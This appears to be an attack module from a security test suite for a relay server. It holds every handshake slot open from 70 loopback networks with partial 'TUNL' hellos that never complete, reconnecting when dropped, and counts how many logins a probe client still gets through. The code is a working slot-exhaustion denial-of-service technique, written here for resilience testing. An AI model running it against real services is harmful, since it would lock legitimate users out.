// Login lockout without the token (issue 22, finding 1): 70 networks (127.N.0.1) each hold a
// handshake slot with a hello that never finishes and come straight back when the relay drops
// them, while a real client (from a network of its own) logs in twice a second. Reports how many
// of its logins got in, and why the others did not.
import { connect, type Socket } from 'node:net'
import { rawLogin } from '../lib/raw-client.js'
import type { Attack } from './attack.js'

const NETWORKS = 70
/** A valid hello prefix (version 2, unpinned) that never completes. */
const PARTIAL_HELLO = Buffer.from('TUNL\x02\x00\x00\x00\x00\x00\x08lockout', 'latin1')
const MAX_CONNECTIONS = 1_000_000
const MAX_LOGINS = 1_000
/** The real client's pace: a reconnecting client, not a flood (the per-network rate allows 20/s). */
const LOGIN_EVERY_MS = 500

export const loginLockout: Attack = {
  name: 'login-lockout',
  what: `${NETWORKS} networks hold a handshake slot each and reconnect at once when dropped; a real client logs in meanwhile`,
  run: async (target, signal) => {
    const sockets = new Set<Socket>()
    let opened = 0
    const occupy = (network: number): void => {
      if (signal.aborted || opened >= MAX_CONNECTIONS) return
      opened++
      const socket = connect({ host: target.host, port: target.port, localAddress: `127.${network}.0.1` })
      sockets.add(socket)
      socket.on('error', () => {})
      socket.once('connect', () => { socket.write(PARTIAL_HELLO) })
      socket.once('close', () => { sockets.delete(socket); setImmediate(() => { occupy(network) }) })
    }
    for (let n = 1; n <= NETWORKS; n++) occupy(n)
    let tried = 0
    let ok = 0
    const failures = new Map<string, number>()
    while (!signal.aborted && tried < MAX_LOGINS) {
      tried++
      const next = new Promise((resolve) => setTimeout(resolve, LOGIN_EVERY_MS))
      let why: string | undefined
      try {
        const login = await rawLogin(target, `lockout-probe-${tried}`, { localAddress: '127.250.0.1', timeoutMs: 10_000 })
        if (login.result.ok) ok++
        else why = login.result.code
        login.close()
      } catch (err) {
        why = (err as { code?: string }).code ?? 'error'
      }
      if (why !== undefined) failures.set(why, (failures.get(why) ?? 0) + 1)
      await next
    }
    for (const s of sockets) s.destroy()
    return { sent: opened, unit: 'slot connections', note: `real logins ${ok} of ${tried}${failures.size === 0 ? '' : ` (failed: ${[...failures].map(([c, n]) => `${c} ×${n}`).join(', ')})`}` }
  },
}
